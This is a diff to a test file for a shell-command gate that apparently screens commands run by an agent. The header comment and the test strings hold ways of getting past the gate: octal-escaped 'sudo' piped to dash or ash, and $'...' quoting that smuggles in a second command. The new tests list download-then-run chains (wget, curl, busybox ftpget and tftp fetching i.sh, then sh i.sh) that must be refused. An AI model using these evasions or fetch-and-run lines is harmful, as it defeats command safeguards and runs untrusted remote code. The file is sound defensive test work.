@@ -3,8 +3,8 @@
 // and read differently from bash ran refused commands the floor admitted: `echo 's\165do id' | sh` (dash's
 // echo decodes `\165`), `$(printf %b 's\165do') id` (bash, dash and ash decode it in `%b`; gate read only
 // `\0NNN`), `echo $'a\' ; CMD ; : $'\'` (dash has no `$'...'`: the string ends at `\'` and CMD runs), and
-// a script the text writes run behind a wrapper (`nohup sh x.sh`, `busybox sh x.sh`). Real dash and busybox
-// ash are the oracles, each in one batched run, as an unprivileged user with only stubs on PATH.
+// a script the text writes or downloads run behind a wrapper (`nohup sh x.sh`, `busybox wget -O f URL;
+// sh f`). Real dash and busybox ash are the oracles, one batched run each, unprivileged, stubs on PATH.
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
 import { chmodSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
@@ -102,6 +102,23 @@ test('a written script run by a shell behind a wrapper, busybox included, is rea
     assert.equal(verdict(`echo 'sudo id' > x.sh; ${run}`).kind, 'DENY', run);
 });
 
+test("a download behind a wrapper, or by busybox's ftpget and tftp, then run is refused", () => {
+  for (const fetch of [
+    'busybox wget -O i.sh https://x.example/i',
+    'nohup curl -o i.sh https://x.example/i',
+    'timeout 60 wget -qO i.sh https://x.example/i',
+    'busybox ftpget x.example i.sh i.sh',
+    'busybox tftp -g -r i.sh x.example',
+    'busybox wget -O- https://x.example/i | tee i.sh',
+  ])
+    for (const run of ['sh i.sh', 'busybox sh i.sh', 'nohup ash i.sh'])
+      assert.equal(verdict(`${fetch}; ${run}`).kind, 'DENY', `${fetch}; ${run}`);
+  allAdmitted([
+    'busybox wget -O data.json https://x.example/d; cat data.json',
+    'busybox ftpget x.example data.csv; wc -l data.csv',
+  ]);
+});
+
 test('dash, ash and busybox read as the shells and wrappers they are', () => {
   for (const [w, rest] of COMMANDS)
     for (const shell of [
@@ -148,6 +165,8 @@ test('neighbours every shell reads alike stay admitted', () => {
 
 /** Each oracle case: the text, and whether dash and busybox ash run its `sudo`. */
 const ORACLE: readonly (readonly [string, boolean, boolean])[] = [
+  // The control: a case no shell reads otherwise (when it fails, the run itself did not run).
+  ["echo 'sudo id' | sh", true, true],
   ["echo 's\\165do id' | sh", true, false],
   ["echo -n 's\\165do id' | sh", true, false],
   ["echo -e 's\\165do id' | sh", false, true],
@@ -160,7 +179,13 @@ const ORACLE: readonly (readonly [string, boolean, boolean])[] = [
 ];
 
 test('dash and busybox ash agree: each case runs sudo where marked', { skip: skipWithout() }, () => {
-  const dir = mkdtempSync(join(tmpdir(), 'gate-r36-'));
+  // Never as root: an unprivileged user where the machine has setpriv (CI runs tests as root), in a
+  // directory that user can reach (a test runner's TMPDIR may be closed to it) but not write.
+  const drop =
+    process.getuid?.() === 0 && has('setpriv')
+      ? `${where('setpriv')} --reuid=nobody --regid=nogroup --clear-groups `
+      : '';
+  const dir = mkdtempSync(join(drop === '' ? tmpdir() : '/tmp', 'gate-r36-'));
   try {
     chmodSync(dir, 0o755);
     const mark = join(dir, 'ran');
@@ -179,11 +204,6 @@ test('dash and busybox ash agree: each case runs sudo where marked', { skip: ski
       chmodSync(mark, 0o666);
       rmSync(join(dir, 'sh'), { force: true });
       symlinkSync(shell, join(dir, 'sh'));
-      // Never as root: an unprivileged user where the machine has setpriv (CI runs tests as root).
-      const drop =
-        process.getuid?.() === 0 && has('setpriv')
-          ? `${where('setpriv')} --reuid=nobody --regid=nogroup --clear-groups `
-          : '';
       spawnSync(
         '/bin/sh',
         [
